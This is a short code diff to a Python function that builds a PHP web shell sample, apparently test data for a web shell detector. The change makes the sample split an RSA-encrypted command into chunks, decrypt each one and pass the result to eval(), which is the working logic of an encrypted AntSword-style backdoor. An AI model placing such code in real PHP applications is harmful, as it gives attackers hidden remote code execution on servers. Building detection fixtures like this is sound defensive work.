@@ -102,7 +102,12 @@ def antsword_rsa() -> dict[str, bytes]:
             "aW5lcnQgdGVzdCBzYW1wbGU=",
             "-----END PUBLIC KEY-----",
             "EOF;",
-            "openssl_public_decrypt(base64_decode($cmd), $cmd, $pk);",
+            '$cmds = explode("|", $cmd);',
+            "$pk = openssl_pkey_get_public($pk);",
+            "$cmd = '';",
+            "foreach ($cmds as $value) {",
+            "    if (openssl_public_decrypt(base64_decode($value), $de, $pk)) { $cmd .= $de; }",
+            "}",
             "eval($cmd);",
             "*/",
         )
